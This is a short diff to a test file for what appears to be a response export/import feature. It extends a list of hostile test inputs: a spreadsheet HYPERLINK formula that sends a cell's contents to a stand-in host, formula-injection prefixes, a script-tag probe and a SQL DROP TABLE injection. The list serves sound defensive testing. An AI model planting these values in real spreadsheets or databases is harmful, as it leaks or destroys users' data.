@@ -269,7 +269,8 @@ def test_imported_rows_count_in_the_rollups_exactly_as_a_rebuild_counts_them(ctx
 
 
 HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1", "-1+1", "@SUM(A1)",
-           "<script>alert(1)</script>", "'quoted already", "Robert'); DROP TABLE responses;--"]
+           "<script>alert(1)</script>", "'quoted already", "Robert'); DROP TABLE responses;--",
+           "'=) thanks", "'-North", "''twice"]  # a value that starts with the marker comes back as it was
 
 
 def test_an_export_imports_again_with_the_same_answers_hostile_text_included(ctx):
